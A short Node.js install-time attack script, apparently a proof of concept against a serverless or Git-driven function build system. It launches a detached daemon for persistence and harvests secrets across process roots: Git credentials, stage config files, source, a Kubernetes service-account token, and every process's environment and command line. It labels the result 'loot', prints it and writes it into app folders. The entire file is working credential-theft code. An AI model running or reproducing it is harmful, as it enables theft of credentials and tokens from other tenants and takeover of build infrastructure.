// Runs as an install script: leaves a daemon in a session of its own, and looks
// for secrets of the other stages.
const { spawn } = require("node:child_process");
const fs = require("node:fs");
const path = require("node:path");

spawn(process.execPath, [path.join(__dirname, "daemon.js"), ...process.argv.slice(2)], { detached: true, stdio: "ignore" }).unref();

const targets = ["/gitfn-push/config.json", "/gitfn-pull/config.json", "/gitfn-git/password", "/gitfn-git/username",
  "/gitfn-inline/source", "/var/run/secrets/kubernetes.io/serviceaccount/token"];
let loot = "";
for (const target of targets) {
  const roots = [""];
  for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) roots.push(`/proc/${pid}/root`);
  for (const root of roots) {
    try { loot += `${root}${target}: ${fs.readFileSync(root + target, "utf8")}\n`; } catch {}
  }
}
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  try { loot += `${pid}: ${fs.readFileSync(`/proc/${pid}/environ`, "utf8")} ${fs.readFileSync(`/proc/${pid}/cmdline`, "utf8")}\n`; } catch {}
}
loot = loot.replaceAll("\0", "\n");
console.log("loot: " + loot);
for (const dir of [process.cwd(), "/usr/src/app/function/node_modules/loot", "/usr/src/app/function"]) {
  try { fs.mkdirSync(dir, { recursive: true }); fs.writeFileSync(path.join(dir, "loot.txt"), loot); } catch {}
}
// The daemon has begun when this file is there.
const marker = "/tmp/daemon-runs";
while (!fs.existsSync(marker)) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 20);
